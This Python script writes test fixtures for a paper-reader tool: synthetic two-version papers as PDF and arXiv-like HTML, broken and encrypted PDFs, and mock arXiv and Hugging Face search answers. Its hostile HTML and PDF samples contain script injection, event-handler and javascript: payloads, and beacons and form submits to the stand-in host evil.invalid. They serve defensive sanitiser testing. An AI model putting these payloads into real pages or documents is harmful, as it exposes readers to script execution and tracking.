"""Write the full-text test fixtures: a ~20-page paper as PDF and arXiv-like HTML, v1 and v2.

The text is CC0 arXiv abstracts (benchmarks/data/, the labelled sample), one per paragraph,
under headings written here. v2 is v1 edited the way papers change between arXiv versions
(sentences inserted and removed, words changed, a paragraph moved, one dropped, one added), so
the re-anchoring of highlights can be measured. Also: hostile HTML and PDF, a malformed and an
encrypted PDF, and the arXiv API / Hugging Face paper-search answers for title resolution.

    .venv/bin/pip install fpdf2 && .venv/bin/python scripts/fulltext_fixtures.py

The output is deterministic (fixed dates and file ids), so re-running it changes nothing.
"""

from __future__ import annotations

import gzip
import json
import struct
import zlib
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "fixtures" / "fulltext"
SAMPLE = ROOT / "benchmarks" / "data" / "arxiv-labeled-part01.jsonl.gz"
ARXIV_ID = "2412.99901"  # a well-formed id arXiv never assigned (2412 ended near 2412.2xxxx)
TITLE = "Reading at Scale: A Synthetic Full Text for Testing Paper Readers"
AUTHORS = ["Ada Example", "Brook Sample", "Casey Fixture"]
SECTIONS = ["Introduction", "Related Work", "Method", "Experiments", "Results", "Discussion",
            "Conclusion"]  # fmt: skip
PER_SECTION = 9
MOMENT = datetime(2024, 12, 31, 12, 0, tzinfo=timezone.utc)


def abstracts() -> list[dict[str, Any]]:
    """70 plain-ASCII abstracts of 900-1500 characters, in file order (deterministic)."""
    with gzip.open(SAMPLE, "rt", encoding="utf-8") as lines:
        rows = [json.loads(line) for line in lines]
    plain = [r for r in rows if r["abstract"].isascii() and not set("$\\") & set(r["abstract"])]
    return [r for r in plain if 900 < len(r["abstract"]) < 1500][: len(SECTIONS) * PER_SECTION]


def sentences(text: str) -> list[str]:
    """Split on '. ' (good enough for these abstracts; the split is only for edits)."""
    parts = text.split(". ")
    return [p if p.endswith(".") else p + "." for p in parts]


def version_1(rows: list[dict[str, Any]]) -> list[list[str]]:
    """Sections of paragraphs: each paragraph one abstract."""
    paras = [r["abstract"] for r in rows]
    return [paras[i * PER_SECTION : (i + 1) * PER_SECTION] for i in range(len(SECTIONS))]


def version_2(v1: list[list[str]]) -> list[list[str]]:
    """v1 edited like a revised arXiv version (each edit is one kind of change)."""
    v2 = [list(section) for section in v1]
    v2[0][3] = "We revised this paragraph for the second version. " + v2[0][3]  # inserted
    first, _, *rest = sentences(v2[0][5])
    v2[0][5] = " ".join([first, *rest])  # second sentence removed
    moved = v2[0].pop(8)
    v2[4].insert(1, moved)  # a paragraph moved to another section
    v2[1][2] = v2[1][2].replace(" we ", " the authors ").replace(" the ", " this ", 2)  # words
    del v2[2][0]  # a paragraph dropped
    v2[3].insert(1, "A new paragraph in the second version reports one more ablation.")
    one, two, *others = sentences(v2[4][5])
    v2[4][5] = " ".join([two, one, *others])  # two sentences swapped
    return v2


def pdf_bytes(sections: list[list[str]], version: int, encrypt: bool = False) -> bytes:
    """The paper as a PDF (core Helvetica: pdf.js draws it with a system font, offline)."""
    from fpdf import FPDF

    pdf = FPDF(format="A4")
    pdf.set_creation_date(MOMENT)
    pdf.set_title(TITLE)
    pdf.set_author(", ".join(AUTHORS))
    pdf.set_producer("paperwidgets fixtures")
    pdf.file_id = lambda: f"<{version:032X}><{version:032X}>"  # type: ignore[method-assign]
    if encrypt:
        pdf.set_encryption(owner_password="owner", user_password="secret")
    pdf.set_margins(22, 22, 22)
    pdf.add_page()
    pdf.set_font("Helvetica", "B", 17)
    pdf.multi_cell(0, 8, TITLE, align="C", new_x="LMARGIN", new_y="NEXT")
    pdf.set_font("Helvetica", "", 11)
    pdf.multi_cell(0, 6, ", ".join(AUTHORS), align="C", new_x="LMARGIN", new_y="NEXT")
    pdf.multi_cell(0, 6, f"arXiv:{ARXIV_ID}v{version}", align="C", new_x="LMARGIN", new_y="NEXT")
    pdf.ln(4)
    for number, (name, paras) in enumerate(zip(SECTIONS, sections, strict=False), 1):
        pdf.set_font("Helvetica", "B", 13)
        pdf.multi_cell(0, 9, f"{number} {name}", new_x="LMARGIN", new_y="NEXT")
        pdf.set_font("Helvetica", "", 11)
        for para in paras:
            pdf.multi_cell(0, 5.6, para, align="L", new_x="LMARGIN", new_y="NEXT")
            pdf.ln(2.5)
    return bytes(pdf.output())


def html_text(sections: list[list[str]], version: int) -> str:
    """The paper as arXiv's LaTeXML HTML looks (its classes, head, a figure and some math)."""
    from html import escape

    body = []
    for number, (name, paras) in enumerate(zip(SECTIONS, sections, strict=True), 1):
        body.append(f'<section id="S{number}" class="ltx_section">')
        body.append(f'<h2 class="ltx_title ltx_title_section"><span class="ltx_tag '
                    f'ltx_tag_section">{number} </span>{escape(name)}</h2>')  # fmt: skip
        for index, para in enumerate(paras, 1):
            body.append(f'<div id="S{number}.p{index}" class="ltx_para">'
                        f'<p class="ltx_p">{escape(para)}</p></div>')  # fmt: skip
        if number == 3:
            body.append(FIGURE)
        body.append("</section>")
    return HTML_PAGE.format(
        title=escape(TITLE), version=version, arxiv=ARXIV_ID,
        authors=escape(", ".join(AUTHORS)), body="\n".join(body),
    )  # fmt: skip


FIGURE = """<figure id="S3.F1" class="ltx_figure"><img src="x1.png" id="S3.F1.g1"
class="ltx_graphics ltx_centering" width="120" height="60" alt="A bar chart">
<figcaption class="ltx_caption ltx_centering"><span class="ltx_tag ltx_tag_figure">Figure 1:
</span>The loss <math id="S3.F1.m1" class="ltx_Math" alttext="L(\\theta)" display="inline">
<semantics><mrow><mi>L</mi><mo>(</mo><mi>&#952;</mi><mo>)</mo></mrow></semantics></math>
falls with training.</figcaption></figure>"""

HTML_PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta content="text/html; charset=utf-8" http-equiv="content-type"/>
<title>{title}</title>
<link rel="stylesheet" href="https://arxiv.org/static/browse/0.3.4/css/ar5iv.0.7.9.min.css">
<link rel="stylesheet" href="https://arxiv.org/static/browse/0.3.4/css/ar5iv-fonts.min.css">
<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.0/dist/js/bootstrap.min.js"></script>
<script src="https://arxiv.org/static/browse/0.3.4/js/addons_new.js"></script>
<base href="/html/{arxiv}v{version}/">
</head>
<body>
<div class="ltx_page_main">
<div class="ltx_page_content">
<article class="ltx_document ltx_authors_1line">
<h1 class="ltx_title ltx_title_document">{title}</h1>
<div class="ltx_authors"><span class="ltx_creator ltx_role_author">
<span class="ltx_personname">{authors}</span></span></div>
<div class="ltx_abstract"><h6 class="ltx_title ltx_title_abstract">Abstract</h6>
<p class="ltx_p">A synthetic paper (version {version}) whose paragraphs are CC0 arXiv abstracts,
for testing paper readers.</p></div>
{body}
</article>
</div>
<footer class="ltx_page_footer"><div class="ltx_page_logo">Generated by
<a href="http://dlmf.nist.gov/LaTeXML/" class="ltx_LaTeXML_logo">LaTeXML</a></div></footer>
</div>
</body>
</html>
"""

HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Hostile</title>
<meta http-equiv="refresh" content="0; url=http://evil.invalid/refresh">
<script>alert("script in head")</script>
<link rel="stylesheet" href="http://evil.invalid/style.css">
<base href="http://evil.invalid/">
<style>body { background: url("http://evil.invalid/bg.png"); }</style>
</head>
<body onload="alert('onload')">
<h1 class="ltx_title">A hostile page</h1>
<p class="ltx_p">This paragraph is safe text to highlight in the hostile page.</p>
<script>alert("script in body"); fetch("http://evil.invalid/beacon")</script>
<img src="http://evil.invalid/remote.png" alt="remote image">
<img src="x" onerror="alert('onerror')">
<img srcset="http://evil.invalid/a.png 1x" alt="srcset">
<form action="http://evil.invalid/submit" method="post"><input name="q" value="x">
<button type="submit" formaction="http://evil.invalid/formaction">Send</button></form>
<iframe src="http://evil.invalid/frame"></iframe>
<object data="http://evil.invalid/object"></object><embed src="http://evil.invalid/embed">
<a href="javascript:alert('link')">a javascript link</a>
<a href="http://evil.invalid/page">an outside link</a>
<svg><image href="http://evil.invalid/svg.png"></image><script>alert('svg')</script></svg>
<math><mi xlink:href="javascript:alert('math')">x</mi></math>
<p style="background-image: url(http://evil.invalid/inline.png)">styled paragraph</p>
<video src="http://evil.invalid/v.mp4" autoplay></video><audio src="http://evil.invalid/a.mp3"></audio>
<p class="ltx_p">The end of the hostile page.</p>
</body></html>
"""


def hostile_pdf() -> bytes:
    """A one-page PDF that asks for JavaScript on open, a remote link and a form submit."""
    content = b"BT /F1 14 Tf 72 720 Td (A hostile PDF: it asks to run a script.) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AcroForm << /Fields [7 0 R] >> "
        b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> /Annots [8 0 R 7 0 R] /AA << /O 5 0 R >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /S /JavaScript /JS (app.alert('pdf script'); this.submitForm"
        b"('http://evil.invalid/pdf-submit');) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 600 200 630] "
        b"/A << /S /SubmitForm /F (http://evil.invalid/pdf-form) >> /P 3 0 R >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 400 730] "
        b"/A << /S /URI /URI (http://evil.invalid/pdf-link) >> >>",
    ]
    return raw_pdf(objects)


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF file from its objects (numbered from 1), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def malformed_pdf(good: bytes) -> bytes:
    """A PDF header, then the middle of a real PDF scrambled: no page tree can be found."""
    middle = bytes(b ^ 0x5A for b in good[2000:12000])
    return b"%PDF-1.4\n" + middle + b"\n%%EOF\n"


def png(width: int = 120, height: int = 60) -> bytes:
    """A small bar-chart PNG (the figure the HTML version shows, served beside it)."""
    rows = []
    for y in range(height):
        row = bytearray([0])
        for x in range(width):
            bar = (x // 20) % 2 == 0 and y > height - (x // 20 + 1) * 9
            row += bytes((40, 90, 200) if bar else (250, 250, 250))
        rows.append(bytes(row))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    raw = zlib.compress(b"".join(rows), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def arxiv_atom(entries: list[dict[str, Any]]) -> str:
    """An arXiv API answer (2026 feed layout, as in tests/fixtures/arxiv-atom/)."""
    from html import escape

    items = []
    for e in entries:
        authors = "".join(f"<author><name>{escape(a)}</name></author>" for a in e["authors"])
        items.append(ATOM_ENTRY.format(
            arxiv=e["id"], title=escape(e["title"]), summary=escape(e["abstract"]),
            authors=authors, published="2024-12-30T18:00:00Z",
        ))  # fmt: skip
    return ATOM_FEED.format(total=len(entries), entries="".join(items))


ATOM_FEED = """<?xml version='1.0' encoding='UTF-8'?>
<feed xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/" \
xmlns:arxiv="http://arxiv.org/schemas/atom" xmlns="http://www.w3.org/2005/Atom">
  <id>https://arxiv.org/api/fixture</id>
  <title>arXiv Query: fixture</title>
  <updated>2024-12-31T00:00:00Z</updated>
  <link href="https://arxiv.org/api/query?search_query=fixture" type="application/atom+xml"/>
  <opensearch:itemsPerPage>5</opensearch:itemsPerPage>
  <opensearch:totalResults>{total}</opensearch:totalResults>
  <opensearch:startIndex>0</opensearch:startIndex>{entries}
</feed>
"""

ATOM_ENTRY = """
  <entry>
    <id>http://arxiv.org/abs/{arxiv}v2</id>
    <title>{title}</title>
    <updated>2024-12-31T18:00:00Z</updated>
    <link href="https://arxiv.org/abs/{arxiv}v2" rel="alternate" type="text/html"/>
    <link href="https://arxiv.org/pdf/{arxiv}v2" rel="related" type="application/pdf" title="pdf"/>
    <summary>{summary}</summary>
    <category term="cs.DL" scheme="http://arxiv.org/schemas/atom"/>
    <published>{published}</published>
    <arxiv:comment>20 pages</arxiv:comment>
    <arxiv:primary_category term="cs.DL"/>
    {authors}
  </entry>"""


def hf_search(entries: list[dict[str, Any]]) -> str:
    """A Hugging Face /api/papers/search answer: a list of {paper: {...}, ...} items."""
    items = [
        {
            "paper": {
                "id": e["id"],
                "title": e["title"],
                "summary": e["abstract"],
                "authors": [{"name": a, "hidden": False} for a in e["authors"]],
                "publishedAt": "2024-12-30T18:00:00.000Z",
                "upvotes": 3,
            },
            "title": e["title"],
            "summary": e["abstract"],
            "publishedAt": "2024-12-30T18:00:00.000Z",
            "numComments": 0,
        }
        for e in entries
    ]
    return json.dumps(items, indent=1) + "\n"


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    rows = abstracts()
    v1 = version_1(rows)
    v2 = version_2(v1)
    files: dict[str, bytes] = {
        "paper-v1.pdf": pdf_bytes(v1, 1),
        "paper-v2.pdf": pdf_bytes(v2, 2),
        "paper-v1.html": html_text(v1, 1).encode(),
        "paper-v2.html": html_text(v2, 2).encode(),
        "x1.png": png(),
        "encrypted.pdf": pdf_bytes(v1[:1], 1, encrypt=True),
        "hostile.html": HOSTILE_HTML.encode(),
        "hostile.pdf": hostile_pdf(),
    }
    files["malformed.pdf"] = malformed_pdf(files["paper-v1.pdf"])
    paper = {"id": ARXIV_ID, "title": TITLE, "authors": AUTHORS,
             "abstract": "A synthetic paper whose paragraphs are CC0 arXiv abstracts."}  # fmt: skip
    near = {**paper, "id": "2412.99902", "title": TITLE.replace("Reading", "Writing")}
    files["arxiv-search.atom"] = arxiv_atom([near, paper]).encode()
    files["arxiv-search-near.atom"] = arxiv_atom([near]).encode()
    files["hf-search.json"] = hf_search([paper, near]).encode()
    sources = [{"arxiv": r["id"], "title": r["title"]} for r in rows]
    files["sources.json"] = (json.dumps(sources, indent=1) + "\n").encode()
    for name, data in files.items():
        (OUT / name).write_bytes(data)
    print(f"wrote {len(files)} files to {OUT.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
